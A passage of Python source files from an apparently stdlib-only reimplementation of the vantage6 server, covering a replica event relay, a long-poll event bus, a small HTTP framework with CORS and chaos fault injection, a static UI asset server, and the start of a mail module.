§2.1). Flask/SQLAlchemy/Socket.IO are not in this image; the server is
stdlib ``http.server`` + ``sqlite3`` + a long-poll event channel, behind
the same ``/api`` route surface and payload shapes.
"""

from vantage6_trn.server.app import ServerApp

__all__ = ["ServerApp"]
