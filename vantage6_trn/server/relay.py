"""Replica-to-replica event relay: multi-host HA fan-out.

Reference counterpart: the RabbitMQ bridge between server replicas
(``vantage6-server`` attaches python-socketio to a shared AMQP queue so
an event emitted on one replica reaches clients connected to another —
SURVEY.md §5.3/§5.8). No broker exists in this runtime model, so the
replicas ARE the broker: each replica pulls every *locally-originated*
event from each configured peer over the ordinary HTTP long-poll
surface and re-emits it into its own durable bus.

Design properties:

* **pull, not push** — the puller owns a durable cursor
  (``relay_cursor`` table), so a replica that was down catches up from
  where it left off, and a crashed connection replays harmlessly (the
  unique ``(origin, origin_eid)`` index makes re-emission idempotent);
* **no echo / no loops** — the feed serves only events the peer itself
  originated (``origin IS NULL``); configure a full mesh (every replica
  lists every other) for complete fan-out;
* **authenticated** — the shared ``jwt_secret`` that already makes
  replicas interchangeable for user/node tokens also signs the
  ``client_type=replica`` token; the feed endpoint accepts nothing else;
* **domain state is out of scope** — tasks/runs/users live in the
  *database*, and multi-host deployments need a network database behind
  ``Database`` (the Postgres seam, SURVEY.md §2.1 ORM row; no driver in
  this image — docs/DEPLOYMENT.md). What this relay makes multi-host is
  the push channel: node/client consumers attached to replica A see
  events emitted on replica B with no shared filesystem between them.
"""

from __future__ import annotations

import logging
import threading
from typing import TYPE_CHECKING

from vantage6_trn.common import jwt as v6jwt
from vantage6_trn.common.globals import IDENTITY_REPLICA

if TYPE_CHECKING:
    from vantage6_trn.server.app import ServerApp

log = logging.getLogger(__name__)

POLL_TIMEOUT_S = 10.0      # peer-side long-poll hold
BACKOFF_MAX_S = 15.0


class ReplicaRelay:
    def __init__(self, app: "ServerApp", peers: list[str] | None = None):
        self.app = app
        self._stop = threading.Event()
        self._threads: dict[str, threading.Thread] = {}
        self._started = False
        self.peers: list[str] = []
        for p in peers or []:
            self.add_peer(p)

    # ------------------------------------------------------------------
    def add_peer(self, url: str) -> None:
        """Register (and, if the relay is running, immediately start
        pulling from) a peer replica's API base, e.g.
        ``http://host:5000/api``."""
        url = url.rstrip("/")
        if url in self.peers:
            return
        self.peers.append(url)
        if self._started:
            self._spawn(url)

    def start(self) -> None:
        self._started = True
        self._stop.clear()
        for url in self.peers:
            self._spawn(url)

    def stop(self) -> None:
        self._stop.set()
        self._started = False
        # threads are daemons holding long-polls up to POLL_TIMEOUT_S;
        # don't join — the stop event ends their loop at next wakeup
        self._threads.clear()

    # ------------------------------------------------------------------
    def _spawn(self, url: str) -> None:
        t = threading.Thread(target=self._pull_loop, args=(url,),
                             daemon=True, name=f"v6trn-relay-{url}")
        self._threads[url] = t
        t.start()

    def _token(self) -> str:
        return v6jwt.encode(
            {"sub": 0, "client_type": IDENTITY_REPLICA},
            self.app.jwt_secret, expires_in=300,
        )

    def _cursor(self, peer: str) -> int:
        row = self.app.db.one(
            "SELECT last_id FROM relay_cursor WHERE peer=?", (peer,)
        )
        return row["last_id"] if row else 0

    def _save_cursor(self, peer: str, last_id: int) -> None:
        self.app.db.execute(
            "INSERT INTO relay_cursor (peer, last_id) VALUES (?, ?) "
            "ON CONFLICT(peer) DO UPDATE SET last_id=excluded.last_id",
            (peer, last_id),
        )

    def _pull_loop(self, peer: str) -> None:
        import requests

        cursor = self._cursor(peer)
        backoff = 1.0
        while not self._stop.is_set():
            try:
                r = requests.get(
                    f"{peer}/relay/feed",
                    params={"since": cursor, "timeout": POLL_TIMEOUT_S},
                    headers={"Authorization": f"Bearer {self._token()}"},
                    timeout=POLL_TIMEOUT_S + 10,
                )
                if r.status_code != 200:
                    raise RuntimeError(
                        f"feed returned {r.status_code}: {r.text[:120]}"
                    )
                body = r.json()
                new_cursor = int(body.get("last_id", cursor))
                oldest = int(body.get("oldest_id", 0))
                head = int(body.get("head_id", new_cursor))
                if head < cursor:
                    # the peer's event ids went BACKWARD: its database
                    # was rebuilt. (head_id is its true MAX(id) —
                    # last_id is clamped to our own `since` and can
                    # never reveal this.) Old origin_eids would collide
                    # with the rebuilt history's ids, so re-relaying is
                    # not safe — resync to its current head and say so.
                    log.error(
                        "relay peer %s history reset (their head %d < "
                        "our cursor %d) — resyncing to head; events "
                        "between are NOT relayed. If the peer was "
                        "rebuilt, give it a new URL (new origin).",
                        peer, head, cursor,
                    )
                    cursor = head
                    self._save_cursor(peer, cursor)
                    continue
                if cursor and oldest > cursor + 1:
                    log.error(
                        "relay peer %s pruned past our cursor (%d < "
                        "oldest retained %d) — events in the gap are "
                        "lost to this replica; raise event_retention "
                        "or shorten outages", peer, cursor, oldest,
                    )
                for ev in body.get("data", ()):
                    try:
                        self.app.events.emit(
                            ev["event"], ev["data"], ev["rooms"],
                            origin=peer, origin_eid=ev["id"],
                        )
                    except Exception:
                        # malformed row from a version-skewed peer: a
                        # poison event must not wedge the whole stream,
                        # but the drop is loud, never silent
                        log.exception(
                            "relay: dropping malformed event %s from "
                            "%s", ev.get("id"), peer,
                        )
                if new_cursor != cursor:
                    cursor = new_cursor
                    self._save_cursor(peer, cursor)
                backoff = 1.0
            except Exception as e:
                if self._stop.is_set():
                    return
                log.warning("relay pull from %s failed: %s — retrying "
                            "in %.0fs", peer, e, backoff)
                self._stop.wait(backoff)
                backoff = min(backoff * 2, BACKOFF_MAX_S)
