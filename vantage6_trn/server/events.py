"""Event broker: server → node/client push channel.

Reference counterpart: ``vantage6-server/.../websockets.py`` (Socket.IO
rooms per collaboration — SURVEY.md §2.1/§5.8). python-socketio is not in
this image; the same semantics are provided by a long-poll channel:
``GET /api/event?since=<id>`` blocks until an event lands in one of the
caller's rooms. Event names match the reference vocabulary (``new_task``,
``kill_task``, ``algorithm_status_change``, ``node-status-changed``) so a
future websocket transport can drop in without touching emitters.
"""

from __future__ import annotations

import itertools
import threading
from collections import deque
from typing import Iterable


def collaboration_room(collaboration_id: int) -> str:
    return f"collaboration_{collaboration_id}"


class EventBus:
    def __init__(self, history: int = 10_000):
        self._events: deque[dict] = deque(maxlen=history)
        self._ids = itertools.count(1)
        self._cond = threading.Condition()
        self._closed = False

    def close(self) -> None:
        """Release every blocked poller immediately (server shutdown —
        otherwise in-flight long-polls pin zombie handler threads for up
        to the poll timeout and stall reconnecting clients)."""
        with self._cond:
            self._closed = True
            self._cond.notify_all()

    @property
    def last_id(self) -> int:
        with self._cond:
            return self._events[-1]["id"] if self._events else 0

    def emit(self, event: str, data: dict, rooms: Iterable[str]) -> int:
        with self._cond:
            eid = next(self._ids)
            self._events.append({
                "id": eid, "event": event, "data": data,
                "rooms": set(rooms),
            })
            self._cond.notify_all()
            return eid

    def poll(self, rooms: Iterable[str], since: int = 0,
             timeout: float = 25.0) -> list[dict]:
        """Events with id > since visible in any of `rooms`; blocks until
        at least one exists or timeout elapses (long-poll)."""
        rooms = set(rooms)

        def visible() -> list[dict]:
            return [
                {"id": e["id"], "event": e["event"], "data": e["data"]}
                for e in self._events
                if e["id"] > since and (e["rooms"] & rooms)
            ]

        with self._cond:
            out = visible()
            if out or timeout <= 0 or self._closed:
                return out
            self._cond.wait_for(
                lambda: self._closed or bool(visible()), timeout=timeout
            )
            return visible()
