"""Event broker: server → node/client push channel.

Reference counterpart: ``vantage6-server/.../websockets.py`` (Socket.IO
rooms per collaboration — SURVEY.md §2.1/§5.8; RabbitMQ fan-out for
multi-replica servers — SURVEY.md §5.3). python-socketio is not in this
image; the same semantics are provided by a long-poll channel:
``GET /api/event?since=<id>`` blocks until an event lands in one of the
caller's rooms. Event names match the reference vocabulary (``new_task``,
``kill_task``, ``algorithm_status_change``, ``node-status-changed``) so a
future websocket transport can drop in without touching emitters.

Events are **persisted** in the server database (``event`` table):

* no silent loss window — a slow consumer can always page forward, and
  when the retention horizon *has* passed its cursor, the poll response's
  ``oldest_id`` exposes the truncation so the consumer can reconcile
  instead of missing events silently;
* a restarted server on a durable DB keeps its event-id sequence, so
  consumers' cursors stay valid across bounces;
* multiple fleet workers / HA replicas sharing one store see each
  other's events (the RabbitMQ-fan-out role). The **shared backend is
  the store itself** — monotonic event ids are the bus sequence, and
  cross-worker delivery is poll/notify over it: an event emitted via
  worker A lands in the shared table, and a node long-polling worker B
  picks it up. Wakeups are layered by distance: same-bus emits notify
  the condition variable directly; same-*process* sibling workers (the
  thread-mode fleet, tests) share that condition through a registry
  keyed by the store's ``bus_key``, so their pollers also wake
  instantly; workers in other processes are covered by a short bounded
  re-check cadence inside ``poll``.
"""

from __future__ import annotations

import json
import threading
import time
from typing import TYPE_CHECKING, Iterable

if TYPE_CHECKING:
    from vantage6_trn.server.storage import Storage

# How often a blocked poll re-checks the table for events emitted by a
# worker in *another process*. Same-process emits (including sibling
# workers on the same store) bypass this entirely via the shared
# condition variable.
CROSS_PROCESS_RECHECK_S = 0.25


class _BusGroup:
    """Wakeup channel shared by every EventBus in this process whose
    store has the same ``bus_key`` (thread-mode fleet workers)."""

    __slots__ = ("cond", "gen")

    def __init__(self) -> None:
        self.cond = threading.Condition()
        self.gen = 0  # bumped per same-process emit (wakeups)


# Process-local wakeup registry, keyed by Storage.bus_key. Deliberately
# NOT shared state in the fleet sense: it carries no events (those live
# in the store) — only Condition objects that cannot cross a process
# boundary. A worker in another process misses the notify and falls back
# to the bounded re-check, which is exactly the broker contract.
_BUS_GROUPS: dict[str, _BusGroup] = {}  # noqa: V6L020 - process-local wakeup registry by design: holds only Conditions (never event data); cross-process workers use the poll re-check cadence
_BUS_GROUPS_LOCK = threading.Lock()


def _bus_group(key: str) -> _BusGroup:
    with _BUS_GROUPS_LOCK:
        group = _BUS_GROUPS.get(key)
        if group is None:
            group = _BUS_GROUPS[key] = _BusGroup()
        return group


def collaboration_room(collaboration_id: int) -> str:
    return f"collaboration_{collaboration_id}"


class EventBus:
    """DB-backed event channel with long-poll delivery.

    ``retention`` bounds the table size (old rows are pruned as new ones
    land); ``oldest_id`` lets consumers detect when pruning overtook
    their cursor.
    """

    def __init__(self, db: "Storage", retention: int = 10_000):
        self.db = db
        self.retention = retention
        # wakeups go through the per-store group so sibling workers in
        # this process (thread-mode fleet) wake each other's pollers
        # without waiting out the cross-process re-check
        self._group = _bus_group(db.bus_key)
        self._cond = self._group.cond
        self._closed = False
        self._emit_count = 0

    def close(self) -> None:
        """Release every blocked poller immediately (server shutdown —
        otherwise in-flight long-polls pin zombie handler threads for up
        to the poll timeout and stall reconnecting clients)."""
        with self._cond:
            self._closed = True
            self._cond.notify_all()

    @property
    def closed(self) -> bool:
        with self._cond:
            return self._closed

    @property
    def last_id(self) -> int:
        row = self.db.one("SELECT MAX(id) m FROM event")
        return row["m"] or 0

    @property
    def oldest_id(self) -> int:
        """Smallest retained event id (0 when the table is empty)."""
        row = self.db.one("SELECT MIN(id) m FROM event")
        return row["m"] or 0

    def emit(self, event: str, data: dict, rooms: Iterable[str],
             origin: str | None = None,
             origin_eid: int | None = None) -> int:
        """Durably record + fan out one event. ``origin``/``origin_eid``
        mark an event relayed from a peer replica (multi-host HA): the
        unique (origin, origin_eid) index makes relay retries idempotent
        — a replayed event returns 0 and wakes nobody — and the relay
        feed serves only origin-less rows, so full-mesh peers never echo
        each other's events back and forth."""
        import sqlite3

        try:
            eid = self.db.insert(
                "event", name=event, data=json.dumps(data),
                rooms=json.dumps(sorted(set(rooms))),
                created_at=time.time(),
                origin=origin, origin_eid=origin_eid,
            )
        except sqlite3.IntegrityError as e:
            # only the relay-dedup index means "already have it" — any
            # other integrity failure (e.g. NOT NULL from a malformed
            # peer payload) must surface, not masquerade as a duplicate
            if origin is not None and "event.origin" in str(e):
                return 0  # already relayed (reconnect replay)
            raise
        self._emit_count += 1
        if self._emit_count % 64 == 0:
            self.db.delete("event", "id <= ?", (eid - self.retention,))
        with self._cond:
            self._group.gen += 1
            self._cond.notify_all()
        return eid

    def poll_locals(self, since: int = 0,
                    timeout: float = 10.0) -> tuple[list[dict], int]:
        """Peer-replica feed: every *locally-originated* event with
        id > since, rooms included (the peer re-emits into its own
        rooms). Long-polls like ``poll`` but unfiltered — relays need
        the whole stream, not a room's slice."""
        deadline = time.monotonic() + timeout
        scanned = since
        while True:
            with self._cond:
                gen = self._group.gen
                closed = self._closed
            # one query for both the feed rows and the cursor: reading
            # MAX(id) separately could advance the cursor past a local
            # row inserted between the two statements. Relayed rows
            # interleaved in the id sequence advance the cursor too —
            # they are invisible to this feed forever.
            rows = self.db.all(
                "SELECT id, name, data, rooms, origin FROM event "
                "WHERE id > ? ORDER BY id",
                (scanned,),
            )
            if rows:
                scanned = rows[-1]["id"]
            out = [
                {"id": r["id"], "event": r["name"],
                 "data": json.loads(r["data"]),
                 "rooms": json.loads(r["rooms"])}
                for r in rows
                if r["origin"] is None
            ]
            remaining = deadline - time.monotonic()
            # `closed` is the loop-top snapshot: a close() racing in
            # after it is caught by the under-lock re-check below (no
            # wait), and the next iteration's snapshot returns
            if out or remaining <= 0 or closed:
                return out, scanned
            with self._cond:
                if self._group.gen == gen and not self._closed:
                    self._cond.wait(
                        timeout=min(remaining, CROSS_PROCESS_RECHECK_S)
                    )

    def poll(self, rooms: Iterable[str], since: int = 0,
             timeout: float = 25.0) -> tuple[list[dict], int]:
        """Events with id > since visible in any of `rooms`; blocks until
        at least one exists or timeout elapses (long-poll). Returns
        ``(events, scanned)`` where ``scanned`` is the scan's high-water
        mark: every event ≤ scanned that matches the rooms is included,
        so consumers may advance their cursor to it even when no event
        matched — otherwise foreign-room traffic would be re-scanned on
        every poll forever."""
        rooms = set(rooms)
        deadline = time.monotonic() + timeout
        # rows are immutable and ids monotonic: a row that didn't match
        # our rooms never will, so each re-check only scans ids past the
        # previous scan's high-water mark instead of re-reading the table
        scanned = since
        while True:
            with self._cond:
                gen = self._group.gen
                closed = self._closed
            rows = self.db.all(
                "SELECT id, name, data, rooms FROM event WHERE id > ? "
                "ORDER BY id",
                (scanned,),
            )
            if rows:
                scanned = rows[-1]["id"]
            out = [
                {"id": r["id"], "event": r["name"],
                 "data": json.loads(r["data"])}
                for r in rows
                if rooms & set(json.loads(r["rooms"]))
            ]
            remaining = deadline - time.monotonic()
            # loop-top snapshot; a racing close() is caught by the
            # under-lock re-check below and the next iteration returns
            if out or remaining <= 0 or closed:
                return out, scanned
            with self._cond:
                # re-check under the lock: a same-process emit between
                # the query above and this wait bumped the group gen and
                # must not be slept through; emits from workers in other
                # processes are covered by the bounded wait + re-query
                if self._group.gen == gen and not self._closed:
                    self._cond.wait(
                        timeout=min(remaining, CROSS_PROCESS_RECHECK_S)
                    )
