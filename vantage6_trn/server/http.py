"""Tiny HTTP framework over stdlib http.server (threaded).

Replaces Flask/Flask-RESTful from the reference stack (not in this
image). Routes are ``(METHOD, regex)`` → handler; handlers receive a
``Request`` and return ``(status, body_dict)`` or a ``Response``.
"""

from __future__ import annotations

import json
import logging
import re
import socket
import threading
import time
import traceback
import urllib.parse
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, Callable

from vantage6_trn.common import faults, telemetry
from vantage6_trn.common.serialization import (
    BIN_CONTENT_TYPE, decode_binary, encode_binary,
)

log = logging.getLogger(__name__)


@dataclass
class Request:
    method: str
    path: str
    params: dict[str, str]            # named regex groups from the route
    query: dict[str, str]
    body: Any                          # parsed JSON or decoded V6BN pytree
    headers: dict[str, str]
    identity: dict | None = None       # JWT claims, set by auth middleware
    extra: dict = field(default_factory=dict)
    # inbound X-V6-Trace context (common/telemetry.py), set pre-dispatch
    trace: "telemetry.TraceContext | None" = None

    @property
    def accepts_binary(self) -> bool:
        """True when the peer negotiated the binary data plane
        (``Accept: application/x-v6-bin``). Handlers that emit payload
        fields use this to pick the wire form; ``_send`` uses the same
        predicate, so the two can never disagree."""
        return BIN_CONTENT_TYPE in (self.headers.get("accept") or "")

    def respond_header(self, name: str, value: str) -> None:
        """Attach a header to the eventual (status, payload) response
        without giving up the JSON-tuple handler contract (V6L005)."""
        self.extra.setdefault("response_headers", {})[name] = value


class HTTPError(Exception):
    def __init__(self, status: int, msg: str):
        super().__init__(msg)
        self.status = status
        self.msg = msg


@dataclass
class Response:
    """Raw (non-JSON) response — static UI assets, redirects."""

    status: int = 200
    body: bytes = b""
    content_type: str = "application/octet-stream"
    headers: dict[str, str] = field(default_factory=dict)


# Browser cross-origin access: the web UI may be served from one origin
# (a server replica) while querying another (the algorithm store), and
# the reference server likewise serves a CORS-enabled API for its
# separately-hosted Angular UI (SURVEY.md §2.1 UI row). Which origins
# are allowed is per-app configuration (``HTTPApp(cors_origins=...)``):
# the default is none (same-origin only — the bundled UI is served by
# the API itself), a store allows its whitelisted servers' UIs, and
# ``"*"`` remains available for separately-hosted-UI deployments.
_CORS_COMMON = {  # noqa: V6L020 - static response-header template; written nowhere, copied per response
    "Access-Control-Allow-Methods": "GET, POST, PATCH, PUT, DELETE, OPTIONS",
    "Access-Control-Allow-Headers": "Authorization, Content-Type, "
                                    "X-Server-Url",
    "Access-Control-Max-Age": "600",
}


def cors_headers(cors_origins, origin: str | None) -> dict[str, str]:
    """Headers for a response to a request bearing ``Origin: origin``.
    ``cors_origins`` is ``"*"`` (bare or as a list element) or an
    iterable of exact origins."""
    if cors_origins == "*" or "*" in (cors_origins or ()):
        return {"Access-Control-Allow-Origin": "*", **_CORS_COMMON}
    if not cors_origins:
        return {}
    if origin and origin.rstrip("/") in {
        o.rstrip("/") for o in cors_origins
    }:
        return {"Access-Control-Allow-Origin": origin, "Vary": "Origin",
                **_CORS_COMMON}
    # response still varies on Origin (grant vs no grant) — shared
    # caches must not serve this grant-less response to a listed origin
    return {"Vary": "Origin"}


class Router:
    def __init__(self):
        self.routes: list[tuple[str, re.Pattern, Callable]] = []
        # (method, raw pattern, handler) — kept for the OpenAPI spec
        self.route_specs: list[tuple[str, str, Callable]] = []

    def add(self, method: str, pattern: str, handler: Callable) -> None:
        """``pattern`` uses ``<name>`` for int path params."""
        regex = re.sub(r"<(\w+)>", r"(?P<\1>[^/]+)", pattern)
        self.routes.append((method.upper(), re.compile(f"^{regex}$"), handler))
        self.route_specs.append((method.upper(), pattern, handler))

    def route(self, method: str, pattern: str):
        def deco(fn):
            self.add(method, pattern, fn)
            return fn
        return deco

    def dispatch(self, req: Request):
        matched_path = False
        for m, rx, handler in self.routes:
            match = rx.match(req.path)
            if match:
                matched_path = True
                if m == req.method:
                    req.params = match.groupdict()
                    return handler(req)
        if matched_path:
            raise HTTPError(405, "method not allowed")
        raise HTTPError(404, f"no such endpoint: {req.path}")


def make_handler(app: "HTTPApp"):
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, fmt, *args):  # route to logging, not stderr
            log.debug("%s %s", self.address_string(), fmt % args)

        def _handle(self):
            parsed = urllib.parse.urlsplit(self.path)
            # keep_blank_values: `?cursor=` (start a keyset listing) must
            # reach the handler as "" — the default silently drops it
            query = {
                k: v[0] for k, v in urllib.parse.parse_qs(
                    parsed.query, keep_blank_values=True).items()
            }
            try:
                length = int(self.headers.get("Content-Length") or 0)
            except ValueError:
                self.close_connection = True
                self._send(400, {"msg": "bad Content-Length"})
                return
            if length < 0 or length > app.max_body:
                # refuse without reading: draining an attacker-sized body
                # defeats the point (and read(-1) would buffer to EOF),
                # so give up the keep-alive instead
                self.close_connection = True
                self._send(413, {"msg": f"body exceeds {app.max_body} "
                                        f"byte limit"})
                return
            if self.command == "OPTIONS":
                # CORS preflight carries no Authorization header — answer
                # before auth middleware would reject it. Drain any body
                # first or the unread bytes desync this keep-alive
                # connection's next request.
                if length:
                    self.rfile.read(length)
                self._send_raw(Response(204, headers=self._cors()))
                return
            if self.headers.get("Upgrade", "").lower() == "websocket":
                self._websocket(parsed, query)
                return
            raw = self.rfile.read(length) if length else b""
            ctype = (self.headers.get("Content-Type") or "").split(";")[0] \
                .strip().lower()
            if ctype == "application/octet-stream":
                # opaque chunk bodies (resumable uploads): the handler
                # gets the raw bytes — no codec is applied either way
                body = raw
            elif raw and ctype == BIN_CONTENT_TYPE:
                try:
                    body = decode_binary(raw)
                except ValueError as e:
                    self._send(400, {"msg": f"invalid binary body: {e}"})
                    return
            else:
                try:
                    body = json.loads(raw) if raw else None
                except json.JSONDecodeError:
                    self._send(400, {"msg": "invalid JSON body"})
                    return
            if faults.ACTIVE is not None and \
                    self._inject_fault(self.command, parsed.path):
                return
            req = Request(
                method=self.command,
                path=parsed.path,
                params={},
                query=query,
                body=body,
                headers={k.lower(): v for k, v in self.headers.items()},
            )
            # trace propagation: the header rides outside the body, so
            # it survives both codecs; activating it here makes every
            # span a handler opens a child of the caller's span
            req.trace = telemetry.parse_trace(req.headers.get("x-v6-trace"))
            reg = app.metrics or telemetry.REGISTRY
            status = 500
            t0 = time.monotonic()
            try:
                with telemetry.use_trace(req.trace):
                    result = app.handle(req)
                if isinstance(result, Response):
                    status = result.status
                    self._send_raw(result)
                    return
                status, payload = result if isinstance(result, tuple) else (200, result)
                self._send(status, payload, req)
            except HTTPError as e:
                status = e.status
                self._send(e.status, {"msg": e.msg})
            except Exception:
                log.error("unhandled error on %s %s\n%s", req.method,
                          req.path, traceback.format_exc())
                self._send(500, {"msg": "internal server error"})
            finally:
                reg.counter(
                    "v6_http_requests_total", "HTTP requests served"
                ).inc(method=self.command, code=f"{status // 100}xx")
                reg.histogram(
                    "v6_http_request_seconds", "request handling latency"
                ).observe(time.monotonic() - t0, method=self.command)

        def _inject_fault(self, method: str, path: str) -> bool:
            """Chaos hook (common/faults.py): act out a matched
            server-side fault rule. Returns True when the request was
            consumed (no normal handling should follow). ``delay``
            rules sleep inside ``server_fault`` and return None, so
            handling proceeds normally after the stall."""
            rule = faults.server_fault(
                method, path,
                actions=("delay", "error", "drop", "reset", "partition"),
            )
            if rule is None:
                return False
            if rule.action == "error":
                blob = json.dumps({"msg": "injected fault"}).encode()
                self.send_response(rule.status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(blob)))
                if rule.retry_after is not None:
                    self.send_header("Retry-After", str(rule.retry_after))
                self.end_headers()
                self.wfile.write(blob)
                return True
            if rule.action == "reset":
                import socket
                import struct

                # SO_LINGER(on, 0): close() sends RST instead of FIN —
                # the client sees a mid-flight connection reset
                self.connection.setsockopt(
                    socket.SOL_SOCKET, socket.SO_LINGER,
                    struct.pack("ii", 1, 0),
                )
            # drop / reset / partition: never answer; kill the
            # keep-alive so the client's pending read fails instead of
            # hanging (a partition is a drop as seen from either side)
            self.close_connection = True
            return True

        def _websocket(self, parsed, query) -> None:
            """RFC 6455 upgrade: run the middleware (auth) over a
            synthetic GET request, hand the raw socket to the registered
            websocket handler, and close the connection when it returns.
            The handler owns this thread for the connection's lifetime."""
            from vantage6_trn.common import ws as v6ws

            if faults.ACTIVE is not None:
                rule = faults.server_fault("GET", parsed.path,
                                           actions=("ws-drop",))
                if rule is not None:
                    # refuse the upgrade pre-handshake: ws.connect gets
                    # a non-101 and consumers fall back to long-poll
                    (app.metrics or telemetry.REGISTRY).counter(
                        "v6_ws_drops_total",
                        "websocket connections dropped/refused",
                    ).inc(reason="fault")
                    self.close_connection = True
                    return

            req = Request(
                method="GET", path=parsed.path, params={}, query=query,
                body=None,
                headers={k.lower(): v for k, v in self.headers.items()},
            )
            try:
                for mw in app.middleware:
                    mw(req)
                ws_handler = app.ws_routes.get(req.path)
                if ws_handler is None:
                    raise HTTPError(404, f"no such websocket endpoint: "
                                         f"{req.path}")
                key = self.headers.get("Sec-WebSocket-Key")
                if not key:
                    raise HTTPError(400, "missing Sec-WebSocket-Key")
            except HTTPError as e:
                self._send(e.status, {"msg": e.msg})
                return
            self.send_response(101, "Switching Protocols")
            self.send_header("Upgrade", "websocket")
            self.send_header("Connection", "Upgrade")
            self.send_header("Sec-WebSocket-Accept", v6ws.accept_key(key))
            self.end_headers()
            self.close_connection = True
            conn = v6ws.WSConnection(self.connection, server_side=True)
            try:
                ws_handler(req, conn)
            except v6ws.WSClosed:
                (app.metrics or telemetry.REGISTRY).counter(
                    "v6_ws_drops_total",
                    "websocket connections dropped/refused",
                ).inc(reason="closed")
            except Exception:
                log.error("websocket handler error on %s\n%s", req.path,
                          traceback.format_exc())
            finally:
                conn.close()

        def _cors(self) -> dict[str, str]:
            return cors_headers(app.cors_origins,
                                self.headers.get("Origin"))

        def _send(self, status: int, payload: Any,
                  req: Request | None = None) -> None:
            # errors are always JSON (debuggable with any client); success
            # bodies honour the peer's Accept negotiation
            if req is not None and status < 300 and req.accepts_binary:
                blob = encode_binary(payload)
                ctype = BIN_CONTENT_TYPE
            else:
                blob = json.dumps(payload).encode("utf-8")
                ctype = "application/json"
            self.send_response(status)
            self.send_header("Content-Type", ctype)
            self.send_header("Content-Length", str(len(blob)))
            # capability advertisement: clients only switch to binary
            # request bodies after seeing this on a prior response, so a
            # new client never 400s against an old server
            self.send_header("X-V6-Bin", "1")
            if req is not None:
                for k, v in (req.extra.get("response_headers") or {}).items():
                    self.send_header(k, v)
            for k, v in self._cors().items():
                self.send_header(k, v)
            self.end_headers()
            self.wfile.write(blob)

        def _send_raw(self, resp: Response) -> None:
            self.send_response(resp.status)
            self.send_header("Content-Type", resp.content_type)
            self.send_header("Content-Length", str(len(resp.body)))
            for k, v in resp.headers.items():
                self.send_header(k, v)
            self.end_headers()
            self.wfile.write(resp.body)

        do_GET = do_POST = do_PATCH = do_PUT = do_DELETE = _handle
        do_OPTIONS = _handle

    return Handler


class HTTPApp:
    """Router + middleware + threaded server lifecycle."""

    def __init__(self, cors_origins="*", max_body: int = 64 * 1024 * 1024):
        if isinstance(cors_origins, str) and cors_origins != "*":
            # a YAML scalar origin would otherwise iterate per-character
            cors_origins = [cors_origins]
        self.router = Router()
        self.middleware: list[Callable[[Request], None]] = []
        # path (post-middleware, e.g. "/ws") → handler(req, WSConnection)
        self.ws_routes: dict[str, Callable] = {}
        self.cors_origins = cors_origins
        self.max_body = max_body
        # per-component MetricsRegistry (set by ServerApp / the node);
        # None falls back to the process-global telemetry.REGISTRY
        self.metrics: "telemetry.MetricsRegistry | None" = None
        self._server: ThreadingHTTPServer | None = None
        self._thread: threading.Thread | None = None

    def handle(self, req: Request):
        for mw in self.middleware:
            mw(req)
        return self.router.dispatch(req)

    def start(self, host: str = "127.0.0.1", port: int = 0) -> int:
        # default backlog of 5 drops connections under federation fan-out
        class _Server(ThreadingHTTPServer):
            request_queue_size = 128

            def __init__(self, *a, **kw):
                self._conns: set = set()
                self._conn_lock = threading.Lock()
                super().__init__(*a, **kw)

            def process_request(self, request, client_address):
                with self._conn_lock:
                    self._conns.add(request)
                super().process_request(request, client_address)

            def shutdown_request(self, request):
                with self._conn_lock:
                    self._conns.discard(request)
                super().shutdown_request(request)

            def sever_connections(self):
                with self._conn_lock:
                    conns = list(self._conns)
                    self._conns.clear()
                for sock in conns:
                    try:
                        sock.shutdown(socket.SHUT_RDWR)
                    except OSError:
                        pass  # handler thread already closed it

        self._server = _Server((host, port), make_handler(self))
        self._server.daemon_threads = True
        self._thread = threading.Thread(
            target=self._server.serve_forever, kwargs={"poll_interval": 0.1},
            daemon=True, name="v6trn-http",
        )
        self._thread.start()
        return self._server.server_address[1]

    def stop(self) -> None:
        if self._server:
            self._server.shutdown()
            # shutdown() only stops the accept loop; established
            # keep-alive connections would keep being served by the
            # daemon handler threads, so clients of a bounced server
            # would silently keep talking to the dead instance
            self._server.sever_connections()
            self._server.server_close()
            self._server = None
