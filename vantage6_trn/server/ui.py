"""Web UI: static single-page app served by the server.

Reference counterpart: the separate Angular repo ``vantage6/vantage6-UI``
(SURVEY.md §2.1 UI row — login/2FA, CRUD for orgs/collabs/users/roles/
nodes, a task-creation wizard driven by algorithm-store function
metadata, result display; talks only to the REST API). Here the UI is a
dependency-free vanilla-JS SPA served from the server itself at
``/app/``; it drives exactly the same ``/api`` surface a reference UI
would, plus true in-browser end-to-end encryption: WebCrypto's
RSA-OAEP/SHA-256 + AES-256-CTR matches ``common/encryption.py``'s
framing, so task inputs for encrypted collaborations are sealed in the
browser and result payloads can be opened with a locally-selected
private key that never leaves the page.
"""

from __future__ import annotations

from pathlib import Path

from vantage6_trn.server.http import HTTPError, Response

UI_DIR = Path(__file__).with_name("ui_assets")

MIME = {  # noqa: V6L020 - static extension→content-type table; read-only
    ".html": "text/html; charset=utf-8",
    ".js": "text/javascript; charset=utf-8",
    ".css": "text/css; charset=utf-8",
    ".svg": "image/svg+xml",
    ".png": "image/png",
}


def _asset(name: str) -> Response:
    # route params never contain "/" (the <name> pattern is [^/]+), but
    # keep the traversal guard explicit for future route changes
    if "/" in name or "\\" in name or name.startswith("."):
        raise HTTPError(404, "no such asset")
    path = UI_DIR / name
    if not path.is_file():
        raise HTTPError(404, "no such asset")
    ctype = MIME.get(path.suffix, "application/octet-stream")
    return Response(200, path.read_bytes(), ctype,
                    {"Cache-Control": "no-cache"})


def register(app) -> None:
    r = app.http.router

    @r.route("GET", "/")
    def root(req):
        return Response(302, b"", "text/plain", {"Location": "/app/"})

    @r.route("GET", "/app")
    def app_noslash(req):
        return Response(302, b"", "text/plain", {"Location": "/app/"})

    @r.route("GET", "/app/")
    def index(req):
        return _asset("index.html")

    @r.route("GET", "/app/<name>")
    def asset(req):
        return _asset(req.params["name"])
