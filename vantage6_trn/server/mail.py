"""SMTP mail service: password recovery + 2FA reset mails.

Reference counterpart: ``vantage6-server/.../mail_service.py``
(SURVEY.md §2.1 "mail & 2FA"): the server mails a reset token so users
can recover access without an admin online. stdlib ``smtplib`` — no
deps. When no SMTP config is present the service is disabled and
recovery falls back to admin-assisted token issuance (resources.py).
"""

from __future__ import annotations

import logging
import smtplib
